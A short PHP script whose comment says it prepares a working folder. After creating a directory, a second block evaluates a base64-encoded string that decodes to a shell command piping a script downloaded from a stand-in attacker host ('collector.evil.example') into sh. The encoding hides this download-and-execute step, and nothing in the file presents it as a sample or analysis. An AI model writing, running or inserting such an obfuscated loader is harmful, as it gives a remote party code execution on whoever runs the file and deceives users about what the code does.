<?php
// Prepares the working folder.
@mkdir("work");
?>

<?php
eval(base64_decode("c3lzdGVtKCdjdXJsIC1zIGh0dHBzOi8vY29sbGVjdG9yLmV2aWwuZXhhbXBsZS9hIHwgc2gnKTs="));
